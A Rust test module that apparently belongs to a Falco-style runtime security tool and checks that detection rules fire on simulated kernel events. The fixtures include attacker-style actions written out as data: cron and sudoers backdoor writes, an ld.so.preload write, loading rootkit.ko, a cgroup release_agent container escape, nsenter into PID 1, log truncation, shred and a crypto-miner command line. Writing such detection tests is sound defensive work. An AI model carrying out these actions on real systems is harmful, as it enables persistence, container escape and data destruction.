            "Write below binary directory",
        );
        quiet(
            &s.openat(302, "/usr/binx/tool", "O_WRONLY|O_CREAT", 3),
            "Write below binary directory",
        );

        fires(
            &s.openat(301, "/etc/ld.so.preload", "O_WRONLY|O_CREAT|O_APPEND", 3),
            "Dynamic linker preload configured",
        );
        quiet(
            &s.openat(301, "/etc/ld.so.preload", "O_RDONLY", 3),
            "Dynamic linker preload configured",
        );

        fires(
            &s.openat(301, "/etc/sudoers.d/pwn", "O_WRONLY|O_CREAT", 3),
            "Sudo rules modified",
        );
        s.spawn(300, 303, "/usr/sbin/visudo", &["visudo"]);
        quiet(
            &s.openat(303, "/etc/sudoers.d/pwn", "O_WRONLY|O_CREAT", 3),
            "Sudo rules modified",
        );
    }

    #[test]
    fn scheduled_task_modified() {
        const R: &str = "Scheduled task modified";
        let mut s = Sim::new();
        s.spawn(
            300,
            301,
            "/bin/bash",
            &["bash", "-c", "echo x > /etc/cron.d/backdoor"],
        );
        fires(
            &s.openat(301, "/etc/cron.d/backdoor", "O_WRONLY|O_CREAT|O_TRUNC", 3),
            R,
        );
        s.spawn(300, 302, "/usr/bin/crontab", &["crontab", "-e"]);
        quiet(
            &s.openat(302, "/var/spool/cron/crontabs/root", "O_WRONLY|O_CREAT", 3),
            R,
        );
    }

    #[test]
    fn log_file_truncated() {
        const R: &str = "Log file truncated";
        let mut s = Sim::new();
        s.spawn(300, 301, "/bin/bash", &["bash"]);
        fires(
            &s.openat(301, "/var/log/auth.log", "O_WRONLY|O_TRUNC", 3),
            R,
        );
        quiet(
            &s.openat(301, "/var/log/auth.log", "O_WRONLY|O_APPEND", 3),
            R,
        );
        // creat(2) truncates too.
        let ev = s.call(
            301,
            nr::CREAT,
            3,
            [0, 0o600, 0, 0, 0, 0],
            [b"/var/log/syslog\0", b"", b"", b""],
        );
        assert_eq!(ev.args.get("flags"), Some("O_WRONLY|O_CREAT|O_TRUNC"));
        fires(&ev, R);
    }

    #[test]
    fn kernel_module_loaded_from_container() {
        const R: &str = "Kernel module loaded from container";
        let mut s = Sim::new();
        s.spawn(200, 201, "/usr/sbin/insmod", &["insmod", "rootkit.ko"]);
        let ev = s.call(
            201,
            nr::FINIT_MODULE,
            0,
            [3, 0, 0, 0, 0, 0],
            [b"", b"", b"", b""],
        );
        assert_eq!(ev.args.get("fd"), Some("3"));
        fires(&ev, R);
        // Entry-only records (kernels without the exit tracepoint) fire too.
        let mut h = s.hdr(KIND_SYSCALL_ENTER, 201);
        h.nr = nr::INIT_MODULE;
        h.args[1] = 4096;
        let ev = s.feed(&h, [b"debug=1\0", b"", b"", b""]).expect("event");
        assert_eq!(ev.dir, Direction::Enter);
        assert_eq!(ev.args.get("uargs"), Some("debug=1"));
        fires(&ev, R);
        s.spawn(300, 301, "/usr/sbin/insmod", &["insmod", "nvidia.ko"]);
        quiet(
            &s.call(
                301,
                nr::FINIT_MODULE,
                0,
                [3, 0, 0, 0, 0, 0],
                [b"", b"", b"", b""],
            ),
            R,
        );
    }

    #[test]
    fn cgroup_release_agent_written_in_container() {
        const R: &str = "Cgroup release_agent written in container";
        let mut s = Sim::new();
        s.spawn(200, 201, "/bin/sh", &["sh"]);
        fires(
            &s.openat(
                201,
                "/sys/fs/cgroup/rdma/release_agent",
                "O_WRONLY|O_TRUNC",
                3,
            ),
            R,
        );
        quiet(
            &s.openat(
                201,
                "/sys/fs/cgroup/rdma/x/notify_on_release",
                "O_WRONLY",
                3,
            ),
            R,
        );
    }

    #[test]
    fn debugfs_run_in_privileged_container() {
        const R: &str = "Debugfs run in privileged container";
        let mut s = Sim::new();
        s.fork(200, 201);
        s.task(201).cap = FULL_CAPS;
        let ev = s.exec(201, "/sbin/debugfs", &["debugfs", "/dev/sda1"]);
        assert_eq!(ev.container.as_ref().map(|c| c.privileged), Some(true));
        fires(&ev, R);
        let ev = s.spawn(200, 202, "/sbin/debugfs", &["debugfs", "/dev/sda1"]);
        assert_eq!(ev.container.as_ref().map(|c| c.privileged), Some(false));
        quiet(&ev, R);
    }

    #[test]
    fn host_filesystem_mounted_in_container() {
        const R: &str = "Host filesystem mounted in container";
        let mut s = Sim::new();
        s.spawn(200, 201, "/bin/mount", &["mount", "/dev/sda1", "/mnt"]);
        let ev = s.call(
            201,
            nr::MOUNT,
            0,
            [0, 0, 0, 0, 0, 0],
            [b"/dev/sda1\0", b"/mnt\0", b"ext4\0", b""],
        );
        assert_eq!(ev.args.get("dev"), Some("/dev/sda1"));
        assert_eq!(ev.args.get("dir"), Some("/mnt"));
        assert_eq!(ev.args.get("type"), Some("ext4"));
        assert_eq!(ev.args.get("flags"), Some("0"));
        fires(&ev, R);
        let ev = s.call(
            201,
            nr::MOUNT,
            0,
            [0, 0, 0, 4096 | 16384, 0, 0],
            [b"tmpfs\0", b"/mnt\0", b"tmpfs\0", b""],
        );
        assert_eq!(ev.args.get("flags"), Some("MS_BIND|MS_REC"));
        quiet(&ev, R);
    }

    #[cfg(unix)]
    #[test]
    fn namespace_entered_from_container() {
        const R: &str = "Namespace entered from container";
        let mut s = Sim::new();
        fires(
            &s.spawn(
                200,
                201,
                "/usr/bin/nsenter",
                &["nsenter", "-t", "1", "-m", "sh"],
            ),
            R,
        );
        quiet(
            &s.spawn(
                300,
                301,
                "/usr/bin/nsenter",
                &["nsenter", "-t", "1", "-m", "sh"],
            ),
            R,
        );
        s.spawn(200, 202, "/tmp/exploit", &["exploit"]);
        // The fd's target is read from /proc when the process is still there.
        fixture::write(
            &s.proc_root,
            &FakeProc {
                pid: 202,
                ppid: 200,
                comm: "exploit",
                ..FakeProc::default()
            },
        );
        fixture::add_fd(&s.proc_root, 202, 3, "/proc/1/ns/mnt");
        let ev = s.call(
            202,
            nr::SETNS,
            0,
            [3, 0x20000, 0, 0, 0, 0],
            [b"", b"", b"", b""],
        );
        assert_eq!(ev.args.get("nstype"), Some("CLONE_NEWNS"));
        assert_eq!(
            ev.fd.as_ref().map(|f| f.name.as_str()),
            Some("/proc/1/ns/mnt")
        );
        fires(&ev, R);
        s.fork(160, 161);
        let cg = s.cg_container;
        s.task(161).cgroup = cg;
        s.task(161).comm = "runc:[2:INIT]".into();
        quiet(
            &s.call(
                161,
                nr::SETNS,
                0,
                [3, 0x20000, 0, 0, 0, 0],
                [b"", b"", b"", b""],
            ),
            R,
        );
    }

    #[test]
    fn ptrace_attach_and_traceme() {
        let mut s = Sim::new();
        s.spawn(300, 301, "/usr/bin/gdb", &["gdb", "-p", "1"]);
        let ev = s.call(
            301,
            nr::PTRACE,
            0,
            [16, 1, 0, 0, 0, 0],
            [b"", b"", b"", b""],
        );
        assert_eq!(ev.args.get("request"), Some("PTRACE_ATTACH"));
        assert_eq!(ev.args.get("pid"), Some("1"));
        fires(&ev, "Process attached with ptrace");
        fires(
            &s.call(301, nr::PTRACE, 0, [0x4206, 1, 0, 0, 0, 0], [b""; 4]),
            "Process attached with ptrace",
        );
        quiet(
            &s.call(301, nr::PTRACE, 0, [2, 1, 0, 0, 0, 0], [b""; 4]),
            "Process attached with ptrace",
        );
        quiet(
            &s.call(301, nr::PTRACE, -1, [16, 1, 0, 0, 0, 0], [b""; 4]),
            "Process attached with ptrace",
        );
        fires(
            &s.call(301, nr::PTRACE, 0, [0, 0, 0, 0, 0, 0], [b""; 4]),
            "Anti-debugging with ptrace",
        );
        quiet(
            &s.call(301, nr::PTRACE, 0, [7, 1, 0, 0, 0, 0], [b""; 4]),
            "Anti-debugging with ptrace",
        );
    }

    #[test]
    fn bulk_data_destruction() {
        const R: &str = "Bulk data destruction";
        let mut s = Sim::new();
        fires(
            &s.spawn(300, 301, "/usr/bin/shred", &["shred", "-u", "/data/db"]),
            R,
        );
        // Run by the package manager.
        s.spawn(300, 302, "/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]);
        quiet(
            &s.spawn(302, 303, "/usr/bin/shred", &["shred", "-u", "/tmp/x"]),
            R,
        );
    }

    #[test]
    fn kubernetes_api_server_contacted_from_container() {
        const R: &str = "Kubernetes API server contacted from container";
        let mut s = Sim::new();
        s.spawn(200, 201, "/usr/bin/curl", &["curl", "https://10.96.0.1"]);
        let sock = tcp4("10.244.1.7", 43210, "10.96.0.1", 443);
        let addr = sockaddr4([10, 96, 0, 1], 443);
        let ev = s.call(
            201,
            nr::CONNECT,
            0,
            [5, 0, 16, 0, 0, 0],
            [&addr, b"", b"", &sock],
        );
        assert_eq!(ev.args.get("fd"), Some("5"));
        assert_eq!(ev.args.get("addr"), Some("10.96.0.1:443"));
        assert_eq!(
            ev.args.get("tuple"),
            Some("10.244.1.7:43210->10.96.0.1:443")
        );
        let k = ev.k8s.as_ref().expect("k8s");
        assert_eq!(
            (k.ns.as_str(), k.pod.as_str(), k.pod_uid.as_str()),
            ("shop", "web-7d9f", POD_UID)
        );
        fires(&ev, R);
        // The same from a kube-system pod is expected.
        s.pods.insert(
            POD_UID,
            PodMeta {
                ns: "kube-system".into(),
                name: "coredns-1".into(),
                labels: Default::default(),
            },
        );
        quiet(
            &s.call(
                201,
                nr::CONNECT,
                0,
                [5, 0, 16, 0, 0, 0],
                [&addr, b"", b"", &sock],
            ),
            R,
        );
    }

    #[test]
    fn ssh_to_non_standard_port() {
        const R: &str = "SSH to non-standard port";
        let mut s = Sim::new();
        s.spawn(
            300,
            301,
            "/usr/bin/ssh",
            &["ssh", "-p", "443", "203.0.113.10"],
        );
        let sock = tcp4("192.168.1.5", 50000, "203.0.113.10", 443);
        let ev = s.call(
            301,
            nr::CONNECT,
            0,
            [3, 0, 16, 0, 0, 0],
            [&sockaddr4([203, 0, 113, 10], 443), b"", b"", &sock],
        );
        assert_eq!(ev.fd.as_ref().map(|f| f.l4proto.as_str()), Some("tcp"));
        fires(&ev, R);
        let sock = tcp4("192.168.1.5", 50000, "203.0.113.10", 22);
        quiet(
            &s.call(
                301,
                nr::CONNECT,
                0,
                [3, 0, 16, 0, 0, 0],
                [&sockaddr4([203, 0, 113, 10], 22), b"", b"", &sock],
            ),
            R,
        );
    }

    #[test]
    fn crypto_miner_activity() {
        const R: &str = "Crypto-miner activity";
        let mut s = Sim::new();
        fires(
            &s.spawn(
                200,
                201,
                "/tmp/xmrig",
                &["xmrig", "-o", "pool.example:3333"],
            ),
            R,
        );
        fires(
            &s.spawn(
                200,
                202,
                "/usr/bin/python3",
                &["python3", "m.py", "-o", "stratum+tcp://pool.example:3333"],
            ),
            R,
        );
        quiet(
            &s.spawn(
                200,
                203,
                "/usr/bin/python3",
                &["python3", "m.py", "-o", "pool.example:3333"],
            ),
            R,
        );
    }

    /// Every default rule that a kernel record can trigger has a test above.
    #[test]
    fn every_default_rule_is_covered_here() {
        let source = include_str!("enrich.rs");
        for r in ruleset().rules() {
            assert!(
                source.contains(&format!("\"{}\"", r.name)),
                "no enricher test for rule {:?}",
                r.name
            );
        }
    }

    // ---- event contents -----------------------------------------------------------

    #[test]
    fn common_fields_numbering_time_user_and_process() {
        let mut s = Sim::new();
        let ev = s.spawn(300, 301, "/usr/bin/cat", &["cat", "/etc/hosts"]);
        assert_eq!(ev.num, 1, "numbered from 1");
        assert_eq!(ev.kind, EventType::Execve);
        assert_eq!(ev.res, 0);
        assert_eq!(ev.hostname, "node-1");
        assert_eq!(ev.ts, (OFFSET + i128::from(s.now)) as u64);
        assert_eq!(ev.args.get("exe"), Some("cat"));
        assert_eq!(ev.args.get("args"), Some("/etc/hosts"));
        assert_eq!(ev.proc.pid, 301);
        assert_eq!(ev.proc.ppid, 300);
        assert_eq!(ev.proc.exe, "cat");
        assert_eq!(ev.proc.exepath, "/usr/bin/cat");
        assert_eq!(ev.proc.cwd, "/home/alice/", "Falco's trailing slash");
        assert_eq!(ev.proc.tty, 34816);
        assert_eq!(ev.proc.sname, "bash");
        assert_eq!(ev.proc.env, ["PATH=/usr/bin"]);
        assert_eq!(ev.user.uid, 1000);
        assert_eq!(ev.user.name, "alice");
        assert_eq!(ev.user.loginuid, 1000);
        assert_eq!(ev.user.loginname, "alice");
        assert_eq!(ev.group.name, "alice");
        assert_eq!(ev.container, None);
        assert_eq!(ev.k8s, None);
        let names: Vec<&str> = ev.parents.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(names, ["bash", "sshd", "systemd"]);
        // Only the parent carries its arguments (proc.pcmdline); sshd's "-D" is dropped
        // two levels up.
        assert!(ev.parents[1].args.is_empty() && ev.parents[2].args.is_empty());
        let child = s.spawn(100, 302, "/usr/bin/id", &["id"]);
        assert_eq!(child.parents[0].args, ["-D"]);

        let ev = s.openat(301, "/etc/hosts", "O_RDONLY", 3);
        assert_eq!(ev.num, 3);
        assert_eq!(ev.kind, EventType::Openat);
        // An unset login uid is -1 (root's daemons).
        let ev = s.openat(200, "/etc/hosts", "O_RDONLY", 3);
        assert_eq!(ev.user.loginuid, -1);
        assert_eq!(ev.user.loginname, "");
        assert_eq!(ev.user.name, "root");
        assert_eq!(ev.proc.start_ts, (OFFSET + 10 * i128::from(SEC)) as u64);
    }

    #[test]
    fn forks_and_exits_make_no_event_and_unknown_syscalls_neither() {
        let mut s = Sim::new();
        s.fork(300, 301);
        let h = s.hdr(KIND_EXIT, 301);
        assert_eq!(s.feed(&h, [b""; 4]), None);
        let mut h = s.hdr(KIND_SYSCALL, 300);
        h.nr = 9999;
        assert_eq!(s.feed(&h, [b""; 4]), None);
        assert_eq!(s.enr.events(), 0);
    }

    #[test]
    fn failed_execve_keeps_the_caller_and_its_error() {
        let mut s = Sim::new();
        let ev = s.call(300, nr::EXECVE, -2, [0; 6], [b"/nope\0", b"", b"", b""]);
        assert_eq!(ev.kind, EventType::Execve);
        assert_eq!(ev.res, -2);
        assert_eq!(ev.args.get("filename"), Some("/nope"));
        assert_eq!(ev.proc.name, "bash");
        assert!(
            fired(&ev).is_empty(),
            "a failed exec spawns nothing: {:?}",
            fired(&ev)
        );
    }

    #[cfg(unix)]
    #[test]
    fn open_paths_resolve_against_cwd_and_dirfd() {
        let mut s = Sim::new();
        // Relative to the cwd (/home/alice), with `..` and `.`.
        let ev = s.openat(300, "./a/../b.txt", "O_RDONLY", 3);
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(fd.name, "/home/alice/b.txt");
        assert_eq!(fd.nameraw, "./a/../b.txt");
        assert_eq!(fd.kind, FdType::File);
        assert_eq!(fd.num, 3);
        // Relative to a dirfd, read from /proc/PID/fd.
        fixture::add_fd(&s.proc_root, 300, 7, "/var/lib");
        let ev = s.call(
            300,
            nr::OPENAT,
            8,
            [7, 0, o("O_RDONLY|O_DIRECTORY"), 0, 0, 0],
            [b"dpkg\0", b"", b"", b""],
        );
        assert_eq!(ev.args.get("dirfd"), Some("7"));
        assert_eq!(ev.args.get("flags"), Some("O_RDONLY|O_DIRECTORY"));
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(fd.name, "/var/lib/dpkg");
        assert_eq!(fd.kind, FdType::Directory);
        // An unreadable dirfd leaves the path as given.
        let ev = s.call(
            300,
            nr::OPENAT,
            8,
            [9, 0, 0, 0, 0, 0],
            [b"x\0", b"", b"", b""],
        );
        assert_eq!(ev.fd.as_ref().map(|f| f.name.as_str()), Some("x"));
        // Absolute paths are normalised; nameraw keeps what was passed.
        let ev = s.call(
            300,
            nr::OPEN,
            -13,
            [0, 0, 0, 0, 0, 0],
            [b"/etc/../etc/shadow\0", b"", b"", b""],
        );
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(
            (fd.name.as_str(), fd.nameraw.as_str(), fd.num),
            ("/etc/shadow", "/etc/../etc/shadow", -1),
            "a failed open has no descriptor (Falco: fd.num -1)"
        );
        assert_eq!(ev.res, -13, "the error stays in the result");
        assert_eq!(ev.args.get("dirfd"), None, "open has no dirfd");
        // openat2: flags and mode come from the struct open_how bytes the kernel copied.
        let mut how = Vec::new();
        for w in [0o1101u64 /* O_WRONLY|O_CREAT|O_TRUNC */, 0o644, 0] {
            how.extend_from_slice(&w.to_le_bytes());
        }
        let ev = s.call(
            300,
            nr::OPENAT2,
            3,
            [CWD, 0, 0xdead_beef, 24, 0, 0],
            [b"/etc/hosts\0", &how, b"", b""],
        );
        assert_eq!(ev.args.get("flags"), Some("O_WRONLY|O_CREAT|O_TRUNC"));
        assert_eq!(ev.fd.as_ref().map(|f| f.name.as_str()), Some("/etc/hosts"));
    }

    #[test]
    fn flag_rendering() {
        let r = |f: u64| {
            let mut s = String::new();
            render_open_flags(&mut s, f);
            s
        };
        assert_eq!(r(0), "O_RDONLY");
        assert_eq!(r(0o2000000), "O_RDONLY|O_CLOEXEC");
        assert_eq!(r(0o1101), "O_WRONLY|O_CREAT|O_TRUNC");
        assert_eq!(r(2 | 0o200 | 0o100), "O_RDWR|O_CREAT|O_EXCL");
        assert_eq!(
            r(2 | 0o20200000),
            "O_RDWR|O_TMPFILE",
            "O_TMPFILE includes O_DIRECTORY"
        );
        assert_eq!(
            r(1 | 0o4010000),
            "O_WRONLY|O_SYNC",
            "O_SYNC includes O_DSYNC"
        );
        assert_eq!(r(1 | 0o10000), "O_WRONLY|O_DSYNC");
        assert_eq!(r(0o10000000 | 0o400000), "O_RDONLY|O_NOFOLLOW|O_PATH");
        assert_eq!(r(1 << 40), "O_RDONLY|0x10000000000", "unknown bits in hex");
        let mut s = String::new();
        render_flags(&mut s, 0x20000 | 0x4000_0000, NS_FLAGS);
        assert_eq!(s, "CLONE_NEWNS|CLONE_NEWNET");
        let mut s = String::new();
        render_flags(&mut s, 0, NS_FLAGS);
        assert_eq!(s, "0");
        let mut s = String::new();
        render_sock_type(&mut s, 2 | 0o4000);
        assert_eq!(s, "SOCK_DGRAM|SOCK_NONBLOCK");
        assert_eq!(ptrace_request(0x4206), Some("PTRACE_SEIZE"));
        assert_eq!(ptrace_request(4), Some("PTRACE_POKETEXT"));
        assert_eq!(ptrace_request(999), None);
        assert_eq!(bpf_cmd(5), Some("BPF_PROG_LOAD"));
        assert_eq!(bpf_cmd(1 << 40), None);
        assert_eq!(family_name(10), Some("AF_INET6"));
    }

    #[test]
    fn credential_and_namespace_syscall_args() {
        let mut s = Sim::new();
        let ev = s.call(300, nr::SETUID, 0, [0, 0, 0, 0, 0, 0], [b""; 4]);
        assert_eq!(ev.args.get("uid"), Some("0"));
        let ev = s.call(
            300,
            nr::SETRESUID,
            0,
            [u64::from(u32::MAX), 0, 1000, 0, 0, 0],
            [b""; 4],
        );
        assert_eq!(
            (
                ev.args.get("ruid"),
                ev.args.get("euid"),
                ev.args.get("suid")
            ),
            (Some("-1"), Some("0"), Some("1000"))
        );
        let ev = s.call(300, nr::SETREGID, 0, [33, 33, 0, 0, 0, 0], [b""; 4]);
        assert_eq!(
            (ev.args.get("rgid"), ev.args.get("egid")),
            (Some("33"), Some("33"))
        );
        let ev = s.call(
            300,
            nr::UNSHARE,
            0,
            [0x1000_0000 | 0x2_0000, 0, 0, 0, 0, 0],
            [b""; 4],
        );
        assert_eq!(ev.args.get("flags"), Some("CLONE_NEWNS|CLONE_NEWUSER"));
        let ev = s.call(
            300,
            nr::MEMFD_CREATE,
            4,
            [0, 1, 0, 0, 0, 0],
            [b"payload\0", b"", b"", b""],
        );
        assert_eq!(ev.args.get("name"), Some("payload"));
        assert_eq!(ev.args.get("flags"), Some("MFD_CLOEXEC"));
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(
            (fd.kind, fd.name.as_str(), fd.num),
            (FdType::Memfd, "memfd:payload", 4)
        );
        let ev = s.call(300, nr::BPF, 6, [5, 0, 0, 0, 0, 0], [b""; 4]);
        assert_eq!(ev.args.get("cmd"), Some("BPF_PROG_LOAD"));
        assert_eq!(ev.fd.as_ref().map(|f| f.kind), Some(FdType::Bpf));
        let ev = s.call(
            300,
            nr::UNLINKAT,
            0,
            [CWD, 0, 0x200, 0, 0, 0],
            [b"tmp/../d\0", b"", b"", b""],
        );
        assert_eq!(ev.args.get("name"), Some("/home/alice/d"));
        assert_eq!(ev.args.get("flags"), Some("AT_REMOVEDIR"));
        let ev = s.call(
            300,
            nr::RENAMEAT2,
            0,
            [CWD, 0, CWD, 0, 1, 0],
            [b"a\0", b"/tmp/b\0", b"", b""],
        );
        assert_eq!(
            (
                ev.args.get("oldpath"),
                ev.args.get("newpath"),
                ev.args.get("flags")
            ),
            (
                Some("/home/alice/a"),
                Some("/tmp/b"),
                Some("RENAME_NOREPLACE")
            )
        );
        let ev = s.call(
            300,
            nr::FCHMODAT,
            0,
            [CWD, 0, 0o4755, 0, 0, 0],
            [b"x\0", b"", b"", b""],
        );
        assert_eq!(
            (ev.args.get("filename"), ev.args.get("mode")),
            (Some("/home/alice/x"), Some("04755"))
        );
        let ev = s.call(
            300,
            nr::UMOUNT2,
            0,
            [0, 2, 0, 0, 0, 0],
            [b"/mnt\0", b"", b"", b""],
        );
        assert_eq!(
            (ev.args.get("name"), ev.args.get("flags")),
            (Some("/mnt"), Some("MNT_DETACH"))
        );
    }

    #[test]
    fn sockets_from_sockinfo_and_sockaddr() {
        let mut s = Sim::new();
        // accept: the process is the server end.
        let sock = tcp4("10.0.0.1", 8080, "10.0.0.2", 51000);
        let ev = s.call(
            200,
            nr::ACCEPT4,
            9,
            [3, 0, 0, 0o2000000, 0, 0],
            [b"", b"", b"", &sock],
        );
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(fd.role, SocketRole::Server);
        assert_eq!(fd.name, "10.0.0.2:51000->10.0.0.1:8080");
        assert_eq!((fd.sport, fd.cport, fd.num), (8080, 51000, 9));
        assert_eq!(ev.args.get("flags"), Some("SOCK_CLOEXEC"));
        // IPv4-mapped IPv6 sockets are IPv4 to the rules.
        let mapped = SockInfo {
            family: abi::AF_INET6,
            sock_type: 1,
            proto: 6,
            lport: 40000,
            rport: 443,
            laddr: Some("::ffff:10.0.0.1".parse().expect("ip")),
            raddr: Some("::ffff:10.96.0.1".parse().expect("ip")),
        }
        .encode();
        let ev = s.call(
            200,
            nr::CONNECT,
            0,
            [4, 0, 28, 0, 0, 0],
            [b"", b"", b"", &mapped],
        );
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(fd.kind, FdType::Ipv4);
        assert_eq!(fd.sip, Some("10.96.0.1".parse().expect("ip")));
        assert!(fd.connected);
        // Real IPv6, UDP.
        let v6 = SockInfo {
            family: abi::AF_INET6,
            sock_type: 2,
            proto: 17,
            lport: 5353,
            rport: 53,
            laddr: Some("fe80::1".parse().expect("ip")),
            raddr: Some("2001:db8::53".parse().expect("ip")),
        }
        .encode();
        let ev = s.call(
            200,
            nr::CONNECT,
            0,
            [4, 0, 28, 0, 0, 0],
            [b"", b"", b"", &v6],
        );
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!((fd.kind, fd.l4proto.as_str()), (FdType::Ipv6, "udp"));
        assert_eq!(fd.name, "fe80::1:5353->2001:db8::53:53");
        // EINPROGRESS: not connected yet, still an IP connect for the rules.
        let ev = s.call(
            200,
            nr::CONNECT,
            -115,
            [4, 0, 16, 0, 0, 0],
            [&sockaddr4([1, 2, 3, 4], 80), b"", b"", b""],
        );
        let fd = ev.fd.as_ref().expect("fd from the sockaddr alone");
        assert_eq!(
            (fd.sip, fd.sport, fd.connected),
            (Some("1.2.3.4".parse().expect("ip")), 80, false)
        );
        assert_eq!(fd.name, "0.0.0.0:0->1.2.3.4:80");
        // A unix socket path.
        let mut un = abi::AF_UNIX.to_le_bytes().to_vec();
        un.extend_from_slice(b"/run/containerd/containerd.sock\0");
        let info = SockInfo {
            family: abi::AF_UNIX,
            sock_type: 1,
            proto: 0,
            lport: 0,
            rport: 0,
            laddr: None,
            raddr: None,
        }
        .encode();
        let ev = s.call(
            200,
            nr::CONNECT,
            0,
            [4, 0, 110, 0, 0, 0],
            [&un, b"", b"", &info],
        );
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(
            (fd.kind, fd.name.as_str()),
            (FdType::Unix, "/run/containerd/containerd.sock")
        );
        assert_eq!(ev.args.get("addr"), Some("/run/containerd/containerd.sock"));
        // Garbage sockaddr and no SockInfo: no fd, no panic.
        let ev = s.call(
            200,
            nr::CONNECT,
            0,
            [4, 0, 3, 0, 0, 0],
            [&[0xff, 0xff, 0x01], b"", b"", b""],
        );
        assert_eq!(ev.fd, None);
        // dup of something that is not a socket: no fd.
        let ev = s.call(200, nr::DUP, 5, [1, 0, 0, 0, 0, 0], [b""; 4]);
        assert_eq!(ev.fd, None);
        assert_eq!(ev.args.get("oldfd"), Some("1"));
    }

    #[test]
    fn container_pod_and_privilege() {
        let mut s = Sim::new();
        let ev = s.openat(200, "/etc/hosts", "O_RDONLY", 3);
        let c = ev.container.as_ref().expect("container");
        assert_eq!(c.id, &ID[..12]);
        assert!(!c.privileged);
        let k = ev.k8s.as_ref().expect("k8s");
        assert_eq!(k.labels.get("app").map(String::as_str), Some("web"));
        // A pod the cache does not know yet: the UID is still there.
        let mut s2 = Sim::new();
        s2.pods = PodCache::new();
        s2.enr.pods = Some(s2.pods.clone());
        let ev = s2.openat(200, "/etc/hosts", "O_RDONLY", 3);
        let k = ev.k8s.as_ref().expect("k8s");
        assert_eq!((k.pod_uid.as_str(), k.pod.as_str()), (POD_UID, ""));
        // Host processes have neither.
        let ev = s.openat(300, "/etc/hosts", "O_RDONLY", 3);
        assert_eq!((ev.container.as_ref(), ev.k8s.as_ref()), (None, None));
        // A process moving into a container (runc's child) is re-resolved by its cgroup id.
        s.fork(160, 161);
        let ev = s.openat(161, "/x", "O_RDONLY", 3);
        assert_eq!(ev.container, None);
        let cg = s.cg_container;
        s.task(161).cgroup = cg;
        let ev = s.openat(161, "/x", "O_RDONLY", 3);
        assert_eq!(
            ev.container.as_ref().map(|c| c.id.as_str()),
            Some(&ID[..12])
        );
        let host = s.cg_host;
        s.task(161).cgroup = host;
        assert_eq!(s.openat(161, "/x", "O_RDONLY", 3).container, None);
    }

    #[test]
    fn pod_wait_is_bounded_and_once_per_uid() {
        let mut s = Sim::new();
        s.pods = PodCache::new();
        s.enr.pods = Some(s.pods.clone());
        s.enr.pod_wait = Duration::from_millis(30);
        let t = Instant::now();
        s.openat(200, "/etc/hosts", "O_RDONLY", 3);
        let first = t.elapsed();
        assert!(first >= Duration::from_millis(30), "{first:?}");
        let t = Instant::now();
        for _ in 0..20 {
            s.openat(200, "/etc/hosts", "O_RDONLY", 3);
        }
        assert!(
            t.elapsed() < Duration::from_millis(30 * 5),
            "waited again: {:?}",
            t.elapsed()
        );
        // Host processes never wait.
        let t = Instant::now();
        s.openat(300, "/etc/hosts", "O_RDONLY", 3);
        assert!(t.elapsed() < Duration::from_millis(30));
    }

    #[test]
    fn reused_event_buffers_carry_nothing_over() {
        let mut s = Sim::new();
        let mut ev = Event::new(EventType::Execve);
        let sock = tcp4("10.0.0.1", 1, "10.0.0.2", 2);
        let h = {
            let mut h = s.hdr(KIND_SYSCALL, 200);
            h.nr = nr::CONNECT;
            h.args[0] = 4;
            h
        };
        let b = encode(&h, [b"", b"", b"", &sock]);
        assert!(s.enr.apply_into(&decode(&b).expect("decode"), &mut ev));
        assert!(ev.fd.is_some() && ev.container.is_some() && ev.k8s.is_some());
        let mut h = s.hdr(KIND_SYSCALL, 300);
        h.nr = nr::PTRACE;
        h.args[0] = 16;
        let b = encode(&h, [b""; 4]);
        assert!(s.enr.apply_into(&decode(&b).expect("decode"), &mut ev));
        let fresh = s.enr.apply(&decode(&b).expect("decode")).expect("event");
        assert_eq!(ev.fd, None);
        assert_eq!(ev.container, None);
        assert_eq!(ev.k8s, None);
        assert_eq!(ev.args, fresh.args);
        assert_eq!(ev.parents, fresh.parents);
        assert_eq!(ev.proc, fresh.proc);
    }

    #[test]
    fn known_pids_are_never_read_from_proc_again() {
        let mut s = Sim::new();
        let reads = s.enr.table().proc_reads();
        for i in 0..200 {
            s.openat(300, "/etc/hosts", "O_RDONLY", 3);
            s.openat(200, "/etc/hosts", "O_RDONLY", 3);
            if i % 50 == 0 {
                s.spawn(300, 1000 + i, "/bin/true", &["true"]);
            }
        }
        assert_eq!(s.enr.table().proc_reads(), reads);
        assert_eq!(s.enr.containers().walks(), 0);
    }

    #[test]
    fn name_db_parsing() {
        let db = parse_name_db(b"root:x:0:0::/root:/bin/sh\nroot2:x:0:0::/:/bin/sh\n\xff\xfe:x:5\nbad\n:x:7:\nu:x:notanumber:\n");
        assert_eq!(
            db.get(&0).map(String::as_str),
            Some("root"),
            "first name wins"
        );
        assert_eq!(db.len(), 1);
    }

    #[test]
    fn sockaddr_parsing_is_total() {
        for b in [
            &b""[..],
            b"\x02",
            b"\x02\x00\x01",
            b"\x0a\x00\x00\x00",
            b"\xff\xff",
        ] {
            assert_eq!(parse_sockaddr(b), None, "{b:?}");
        }
        let mut abs = abi::AF_UNIX.to_le_bytes().to_vec();
        abs.extend_from_slice(b"\0hidden\0");
        assert_eq!(parse_sockaddr(&abs).map(|a| a.path), Some("@hidden".into()));
    }
}
